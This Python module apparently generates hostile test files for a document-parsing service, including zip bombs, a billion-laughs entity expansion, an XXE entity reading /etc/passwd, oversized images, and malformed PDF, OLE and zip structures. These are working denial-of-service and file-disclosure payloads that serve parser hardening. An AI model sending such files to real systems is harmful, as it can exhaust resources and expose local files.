"""Files made to hurt a reader: bombs, bottomless nesting, entities, cut and locked files. Each function writes one."""
import io
import struct
import zipfile
import zlib

MEBIBYTE = 1024 * 1024
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Target="{part}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def package(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def word(body, *more):
    """A DOCX with this XML inside the body, as text or as chunks."""
    inside = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body>'.encode() + body + b"</w:body></w:document>"
    return package([
        ("[Content_Types].xml", TYPES.format(part="word/document.xml", kind="wordprocessingml.document")),
        ("_rels/.rels", RELATIONS.format(part="word/document.xml")),
        ("word/document.xml", inside),
        *more,
    ])


def row(*cells):
    return b"<w:tr>" + b"".join(b"<w:tc><w:p><w:r><w:t>" + c.encode() + b"</w:t></w:r></w:p></w:tc>" for c in cells) + b"</w:tr>"


def plan_table(rows):
    heading = row("№", "Мероприятие", "Срок", "Исполнитель")
    return b"<w:tbl>" + heading + b"".join(
        row(str(i + 1), f"Провести сбор {i + 1}", "до 15 мая 2026 года", "Отдел") for i in range(rows)) + b"</w:tbl>"


def plan(rows=3):
    return word("<w:p><w:r><w:t>План на 2026 год</w:t></w:r></w:p>".encode() + plan_table(rows))


class _Repeated:
    """One deflated block a great many times: gigabytes unpacked out of a few megabytes, made in no time."""

    def __init__(self, block, times):
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        first = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
        self.packed = first * times + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
        self.size = len(block) * times
        self.crc = 0
        for _ in range(times):
            self.crc = zlib.crc32(block, self.crc)


def bomb(name, before, block, times, after_parts=()):
    """A zip whose entry `name` unpacks to `block` repeated; its headers are honest."""
    body = _Repeated(block, times)
    entries = [(n, zlib.compress(c, 9)[2:-4], len(c), zlib.crc32(c)) for n, c in before]
    entries.append((name, body.packed, body.size, body.crc))
    out, directory = io.BytesIO(), b""
    for entry, packed, size, crc in entries:
        at = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(packed), size, len(entry), 0))
        out.write(entry.encode() + packed)
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(packed), size,
                                 len(entry), 0, 0, 0, 0, 0, at) + entry.encode()
    start = out.tell()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), start, 0))
    return out.getvalue()


def word_bomb():
    head = [("[Content_Types].xml", TYPES.format(part="word/document.xml", kind="wordprocessingml.document").encode()),
            ("_rels/.rels", RELATIONS.format(part="word/document.xml").encode())]
    return bomb("word/document.xml", head, b" " * MEBIBYTE, 1024)


def huge_sheet():
    """A sheet of two gigabytes."""
    head = [("[Content_Types].xml", TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet").encode()),
            ("_rels/.rels", RELATIONS.format(part="xl/workbook.xml").encode()),
            ("xl/_rels/workbook.xml.rels",
             RELATIONS.format(part="worksheets/sheet1.xml").replace("officeDocument\"/", "worksheet\"/").encode()),
            ("xl/workbook.xml",
             f'<workbook xmlns="{SHEET}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<sheets><sheet name="План" sheetId="1" r:id="r1"/></sheets></workbook>'.encode())]
    rows = b"<row><c t='inlineStr'><is><t>12</t></is></c></row>" * 20000
    return bomb("xl/worksheets/sheet1.xml", head, rows, 2048 * MEBIBYTE // len(rows))


def nested_tables(depth):
    return word(b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * depth)


def many_entries(count):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
        for i in range(count):
            archive.writestr(f"word/media/{i}", "")
    return out.getvalue()


def laughs():
    """Entities that would grow to gigabytes, and one that would read a file of the machine."""
    entities = '<!ENTITY a0 "ха">' + "".join(
        f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, 12)) + '<!ENTITY file SYSTEM "file:///etc/passwd">'
    inside = (f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><w:document xmlns:w="{WORD}"><w:body>'
              "<w:p><w:r><w:t>&a11;&file;</w:t></w:r></w:p></w:body></w:document>")
    return package([
        ("[Content_Types].xml", TYPES.format(part="word/document.xml", kind="wordprocessingml.document")),
        ("_rels/.rels", RELATIONS.format(part="word/document.xml")),
        ("word/document.xml", inside),
    ])


def locked():
    """A zip whose entries say that they are encrypted."""
    content = bytearray(plan())
    for magic, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(magic)
        while at >= 0:
            content[at + flag] |= 1
            at = content.find(magic, at + 4)
    return bytes(content)


def wide_spans():
    spans = b'<w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge/></w:tcPr>'
    return word(b"<w:tbl>" + (b"<w:tr>" + (b"<w:tc>" + spans + b"<w:p/></w:tc>") * 50 + b"</w:tr>") * 200 + b"</w:tbl>")


def vast_picture():
    """A PNG that says it is sixty thousand pixels wide and high."""
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
    line = _Repeated(b"\0" * MEBIBYTE, 512)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0)) +
            chunk(b"IDAT", b"\x78\x9c" + line.packed + struct.pack(">I", 0)) + chunk(b"IEND", b""))


def endless_pdf(pages):
    """Every page is the same one, counted over and over."""
    kids = " ".join(["3 0 R"] * pages)
    return (f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count {pages}/Kids[{kids}]>>endobj\n"
            "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999 99999]>>endobj\n"
            "trailer<</Root 1 0 R>>\n%%EOF\n").encode()


def looping_pdf():
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\n%%EOF\n")


def old_office(directory_names):
    """The head of a compound file with these streams named, and nothing behind them."""
    sector = b"\xFE\xFF\xFF\xFF" + b"\xFF" * 508
    entries = b""
    for name in ["Root Entry", *directory_names]:
        words = name.encode("utf-16-le") + b"\0\0"
        entries += words.ljust(64, b"\0") + struct.pack("<HBB", len(words), 5 if name == "Root Entry" else 2, 1)
        entries += b"\xFF" * 12 + b"\0" * 36 + struct.pack("<IQ", 0xFFFFFFFE, 0)
    header = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
              struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)).ljust(76, b"\0") + \
        struct.pack("<I", 0) + b"\xFF" * 432
    return header + sector + entries.ljust(512, b"\0")
